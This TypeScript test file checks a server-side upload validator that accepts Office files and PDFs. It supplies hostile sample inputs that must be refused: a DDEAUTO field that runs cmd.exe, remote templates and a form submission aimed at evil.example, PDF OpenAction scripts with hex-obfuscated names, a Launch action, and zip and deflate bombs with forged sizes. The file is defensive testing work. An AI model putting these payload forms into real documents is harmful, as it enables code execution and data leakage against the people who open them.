import { deflateSync } from 'node:zlib'
import { buffer } from 'node:stream/consumers'
import { Readable } from 'node:stream'
import { describe, expect, test } from 'vitest'
import { zipOf } from '#server/export/zip.ts'
import { handedOn } from '#server/files/file-kind.ts'

const office = 'application/vnd.openxmlformats-officedocument'
const types = (main: string, more = '') =>
  `<?xml version="1.0"?><Types><Override PartName="/x.xml" ContentType="${office}.${main}.main+xml"/>${more}</Types>`
const relations = (more: string) => `<?xml version="1.0"?><Relationships>${more}</Relationships>`
const link = (kind: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://evil.example/x" TargetMode="External"/>`

/** An archive of these parts. */
async function archive(parts: Readonly<Record<string, string | Buffer>>): Promise<Buffer> {
  const entries = Object.entries(parts).map(([name, content]) => ({ name, content: [Buffer.from(content)] }))
  return buffer(Readable.from(zipOf(entries)))
}

const word = { '[Content_Types].xml': types('wordprocessingml.document'), 'word/document.xml': '<w:t>ご案内</w:t>' }
const kindOf = async (bytes: Buffer) => (await handedOn(bytes))?.kind.ending

describe('an office document', () => {
  test('is what its own list of parts says, and comes through as it is', async () => {
    const bytes = await archive({ ...word, 'word/_rels/document.xml.rels': relations(link('hyperlink')) })

    expect((await handedOn(bytes))?.bytes.equals(bytes)).toBe(true)
    expect(await kindOf(bytes)).toBe('docx')
    expect(await kindOf(await archive({ '[Content_Types].xml': types('spreadsheetml.sheet') }))).toBe('xlsx')
    expect(await kindOf(await archive({ '[Content_Types].xml': types('presentationml.presentation') }))).toBe('pptx')
    expect(await kindOf(await archive({ 'a.txt': 'a' }))).toBeUndefined()
  })

  test.each<[string, Record<string, string | Buffer>]>([
    ['macros', { 'word/vbaProject.bin': 'x' }],
    [
      'a list of parts that names macros',
      {
        '[Content_Types].xml': types(
          'wordprocessingml.document',
          '<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
      },
    ],
    ['macros of old sheets', { 'xl/macrosheets/sheet1.xml': '<x/>' }],
    ['controls', { 'word/activeX/activeX1.xml': '<x/>' }],
    ['an embedded program', { 'word/embeddings/oleObject1.bin': 'MZ' }],
    [
      'a template that is fetched when it is opened',
      { 'word/_rels/settings.xml.rels': relations(link('attachedTemplate')) },
    ],
    ['a picture that is fetched when it is opened', { 'word/_rels/document.xml.rels': relations(link('image')) }],
    [
      'a field that starts a program',
      { 'word/document.xml': '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' },
    ],
    ['links to other sheets’ data', { 'xl/externalLinks/externalLink1.xml': '<x/>' }],
  ])('with %s is refused', async (_what, parts) => {
    expect(await kindOf(await archive({ ...word, ...parts }))).toBeUndefined()
  })

  test('that unpacks to more than the bounds is refused, whatever it says of its size, and holds little memory', async () => {
    const zeros = Buffer.alloc(40 * 1024 * 1024)
    const two = await archive({ ...word, 'a.xml': zeros, 'b.xml': zeros })
    const three = await archive({ ...word, 'a.xml': zeros, 'b.xml': zeros, 'c.xml': zeros })
    expect(two.length).toBeLessThan(1024 * 1024)
    expect([await kindOf(two), await kindOf(three)]).toEqual(['docx', undefined])

    const lying = Buffer.from(three)
    for (
      let at = lying.indexOf('PK\u0001\u0002', 0, 'latin1');
      at >= 0;
      at = lying.indexOf('PK\u0001\u0002', at + 4, 'latin1')
    )
      if (lying.readUInt32LE(at + 24) > 1024 * 1024) lying.writeUInt32LE(1024, at + 24)
    const before = process.memoryUsage.rss()
    expect(await kindOf(lying)).toBeUndefined()
    expect(process.memoryUsage.rss() - before).toBeLessThan(60 * 1024 * 1024)
  })

  test('with thousands of entries is refused, and one that breaks off', async () => {
    const many = Object.fromEntries(Array.from({ length: 2_001 }, (_, n) => [`word/${n}.xml`, '']))
    expect(await kindOf(await archive({ ...word, ...many }))).toBeUndefined()
    const whole = await archive(word)
    for (const length of [4, 30, 100, whole.length - 10])
      expect(await kindOf(whole.subarray(0, length))).toBeUndefined()
  })
})

describe('a PDF', () => {
  const pdf = (body: string | Buffer) =>
    Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n'),
      Buffer.from(body as string, 'latin1'),
      Buffer.from('\nendobj\ntrailer\n<<>>\n%%EOF\n'),
    ])
  const stream = (head: string, content: string | Buffer) =>
    pdf(
      Buffer.concat([Buffer.from(`<<${head}>>\nstream\n`), deflateSync(content), Buffer.from('\nendstream')]) as never,
    )

  test('of pages, links and pictures comes through as it is', async () => {
    for (const bytes of [
      pdf('<</Type/Page/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.jp)>>>>]>>'),
      stream('/Filter/FlateDecode', 'BT (JavaScript) Tj ET'),
      stream('/Type/ObjStm/Filter/FlateDecode', '1 0 <</Type/Page>>'),
    ])
      expect((await handedOn(bytes))?.bytes.equals(bytes)).toBe(true)
  })

  test('that unpacks to as much as the bounds allow holds little memory meanwhile', async () => {
    const bytes = stream('/Filter/FlateDecode', Buffer.alloc(90 * 1024 * 1024))
    const before = process.memoryUsage.rss()

    expect(await handedOn(bytes)).toBeDefined()
    expect(process.memoryUsage.rss() - before).toBeLessThan(60 * 1024 * 1024)
  })

  test.each([
    ['a script', pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
    ['a script whose name is written in codes', pdf('<</OpenAction<</S/J#61vaScript/J#53 (app.alert(1))>>>>')],
    ['a program to start', pdf('<</S/Launch/F(cmd.exe)>>')],
    ['files in it', pdf('<</Names<</EmbeddedFiles 2 0 R>>>>')],
    ['a form that sends', pdf('<</S/SubmitForm/F(https://evil.example)>>')],
    ['a form of scripts', pdf('<</AcroForm<</XFA 3 0 R>>>>')],
    ['a lock against looking', pdf('<</Encrypt 4 0 R>>')],
    ['a script in a compressed part', stream('/Type/ObjStm/Filter/FlateDecode', '1 0 <</S/JavaScript/JS 5 0 R>>')],
    ['objects packed in a way that is not looked into', stream('/Type/ObjStm/Filter/LZWDecode', 'x')],
    ['parts packed twice', stream('/Filter[/FlateDecode/FlateDecode]', deflateSync('x'))],
    ['parts that unpack to more than the bounds', stream('/Filter/FlateDecode', Buffer.alloc(120 * 1024 * 1024))],
  ])('with %s is refused', async (_what, bytes) => {
    expect(bytes.length).toBeLessThan(1024 * 1024)
    expect(await handedOn(bytes)).toBeUndefined()
  })
})
